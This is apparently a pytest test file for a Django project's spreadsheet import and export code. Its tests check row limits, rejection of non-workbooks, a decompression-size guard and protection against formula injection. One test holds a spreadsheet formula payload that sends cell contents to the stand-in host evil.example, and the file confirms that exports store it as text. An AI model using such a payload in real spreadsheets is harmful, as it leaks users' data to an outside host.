import io
import zipfile

import openpyxl
import pytest
from django.utils import translation

from saisaat.core import spreadsheets
from saisaat.core.spreadsheets import SpreadsheetError, read_xlsx_rows


@pytest.fixture(autouse=True)
def english():
    # The messages are matched in English; their Thai is checked by the translation test.
    with translation.override("en"):
        yield


def workbook(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_it_reads_the_first_sheet_with_row_numbers():
    assert read_xlsx_rows(workbook([["ชื่อ", "วันที่"], ["กมล", 5]]), max_rows=10) == [
        (1, ["ชื่อ", "วันที่"]),
        (2, ["กมล", 5]),
    ]


def test_it_refuses_a_sheet_longer_than_the_limit():
    with pytest.raises(SpreadsheetError, match="more than 3 rows"):
        read_xlsx_rows(workbook([[n] for n in range(4)]), max_rows=3)


@pytest.mark.parametrize("data", [b"", b"name,date\n", b"PK\x03\x04 not a zip"])
def test_it_refuses_what_is_not_a_workbook(data):
    with pytest.raises(SpreadsheetError, match="not an Excel"):
        read_xlsx_rows(data, max_rows=10)


def test_it_refuses_a_zip_that_is_not_a_workbook():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    with pytest.raises(SpreadsheetError, match="not an Excel"):
        read_xlsx_rows(buffer.getvalue(), max_rows=10)


def test_it_refuses_a_workbook_that_inflates_too_far(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNCOMPRESSED_BYTES", 100)
    with pytest.raises(SpreadsheetError, match="too large"):
        read_xlsx_rows(workbook([["x" * 500]]), max_rows=10)


def test_it_says_a_damaged_workbook_is_damaged():
    data = workbook([["a"]])
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            target.writestr(item, b"<broken" if item.filename.endswith("sheet1.xml") else content)
    with pytest.raises(SpreadsheetError, match="damaged"):
        read_xlsx_rows(buffer.getvalue(), max_rows=10)


def test_an_export_writes_what_someone_typed_as_a_formula_as_text():
    from saisaat.core.spreadsheets import workbook_bytes

    book = openpyxl.Workbook()
    book.active.append(['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', 5])
    saved = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))
    cell = saved.active["A1"]
    assert cell.data_type == "s"
    assert cell.value.startswith("=HYPERLINK")
    assert saved.active["B1"].value == 5


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+66 81", "'+66 81"), ("@SUM(A1)", "'@SUM(A1)"), ("ภาพ", "ภาพ"), (3, 3)],
)
def test_a_csv_cell_never_starts_a_formula(value, written):
    from saisaat.core.spreadsheets import csv_text

    assert csv_text(value) == written
